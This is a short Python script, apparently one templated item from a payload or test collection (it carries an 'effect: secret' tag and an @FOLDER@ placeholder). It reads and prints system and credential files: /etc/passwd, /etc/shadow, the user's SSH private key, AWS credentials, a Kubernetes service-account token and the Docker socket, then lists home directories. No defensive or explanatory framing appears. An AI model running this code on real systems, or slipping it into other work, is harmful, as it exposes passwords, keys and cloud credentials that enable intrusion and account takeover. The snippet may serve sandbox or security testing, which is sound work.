# What is usually worth reading.
# effect: secret
import glob, os
for path in ("/etc/passwd", "/etc/shadow", os.path.expanduser("~/.ssh/id_rsa"), os.path.expanduser("~/.aws/credentials"), "/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/docker.sock", "/etc/hostname"):
    try:
        print(open(path).read())
    except OSError as error:
        print(path, error)
print(glob.glob("/home/*"), glob.glob("@FOLDER@/*"))
